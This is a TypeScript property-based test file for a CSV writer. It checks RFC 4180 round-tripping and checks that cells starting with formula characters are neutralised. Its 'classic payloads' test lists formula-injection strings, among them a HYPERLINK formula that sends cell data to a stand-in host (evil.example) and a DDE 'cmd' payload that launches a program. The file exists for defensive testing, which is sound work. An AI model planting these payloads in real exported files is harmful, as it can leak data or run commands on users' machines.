import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toCsv } from './csv.js';

/** A small RFC 4180 reader: CRLF (or LF) records, quoted fields with "" as an escaped quote. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  let fieldStarted = false;
  while (i < text.length) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"') {
        if (text[i + 1] === '"') {
          field += '"';
          i += 2;
          continue;
        }
        quoted = false;
        i += 1;
        const next = text[i];
        if (next !== undefined && next !== ',' && next !== '\r' && next !== '\n') throw new Error(`character after a closing quote at ${i}`);
        continue;
      }
      field += ch;
      i += 1;
      continue;
    }
    if (ch === '"') {
      if (fieldStarted) throw new Error(`quote inside an unquoted field at ${i}`);
      quoted = true;
      fieldStarted = true;
      i += 1;
    } else if (ch === ',') {
      record.push(field);
      field = '';
      fieldStarted = false;
      i += 1;
    } else if (ch === '\r' || ch === '\n') {
      if (ch === '\r' && text[i + 1] !== '\n') throw new Error(`bare CR outside quotes at ${i}`);
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      fieldStarted = false;
      i += ch === '\r' ? 2 : 1;
    } else {
      field += ch;
      fieldStarted = true;
      i += 1;
    }
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (fieldStarted || record.length > 0) {
    record.push(field);
    records.push(record);
  }
  return records;
}

/** Characters that make a spreadsheet read a cell as a formula when they come first. */
const FORMULA_START = ['=', '+', '-', '@', '\t', '\r'];

/** What a reader must get back for one value: the text, with a formula neutralised by a leading quote mark. */
function expectedCell(value: unknown): string {
  if (value === null || value === undefined) return '';
  const text = typeof value === 'string' ? value : JSON.stringify(value);
  return FORMULA_START.some((c) => text.startsWith(c)) ? `'${text}` : text;
}

const columns = ['id', 'createdAt', 'action', 'changes', 'count'] as const;

/** Strings rich in the characters CSV and spreadsheets care about. */
const nasty = fc.string({
  unit: fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(',', '"', '\r', '\n', '\r\n', '=', '+', '-', '@', '\t', "'", ' ', ';', '|') },
    { weight: 3, arbitrary: fc.constantFrom(...'abcXYZ019') },
    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }) },
  ),
  maxLength: 30,
});

const value = fc.oneof(
  { weight: 4, arbitrary: nasty },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.constant(undefined) },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 2, arbitrary: fc.dictionary(nasty, fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 }) },
);

const rows = fc.array(fc.record(Object.fromEntries(columns.map((c) => [c, value])) as Record<(typeof columns)[number], fc.Arbitrary<unknown>>), { maxLength: 8 });

describe('toCsv', () => {
  it('round-trips through an RFC 4180 reader: header, then one record per row with every cell intact', () => {
    fc.assert(
      fc.property(rows, (input) => {
        const text = toCsv(columns, input);
        expect(text.endsWith('\r\n')).toBe(true);
        const records = parseCsv(text);
        expect(records).toEqual([[...columns], ...input.map((row) => columns.map((c) => expectedCell(row[c])))]);
      }),
      { numRuns: 300 },
    );
  });

  it('neutralises every cell a spreadsheet would run as a formula (no read-back cell starts with = + - @ TAB CR)', () => {
    const formula = fc.tuple(fc.constantFrom(...FORMULA_START), nasty).map(([head, rest]) => head + rest);
    fc.assert(
      fc.property(fc.array(fc.oneof(formula, nasty), { minLength: 1, maxLength: 5 }), (texts) => {
        const input = texts.map((text) => ({ id: text, createdAt: text, action: text, changes: { text }, count: text }));
        const records = parseCsv(toCsv(columns, input)).slice(1);
        for (const record of records) {
          for (const cell of record) expect(FORMULA_START.some((c) => cell.startsWith(c)), JSON.stringify(cell)).toBe(false);
        }
      }),
      { numRuns: 300 },
    );
  });

  it('neutralises the classic payloads', () => {
    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', "=cmd|' /C calc'!A0"];
    const records = parseCsv(toCsv(['action'], payloads.map((action) => ({ action }))));
    expect(records.slice(1).map((r) => r[0])).toEqual(payloads.map((p) => `'${p}`));
  });

  it('writes only the header for no rows, and empty cells for null, undefined and missing values', () => {
    expect(toCsv(columns, [])).toBe('id,createdAt,action,changes,count\r\n');
    expect(parseCsv(toCsv(['a', 'b', 'c'], [{ a: null, b: undefined }]))).toEqual([['a', 'b', 'c'], ['', '', '']]);
  });
});
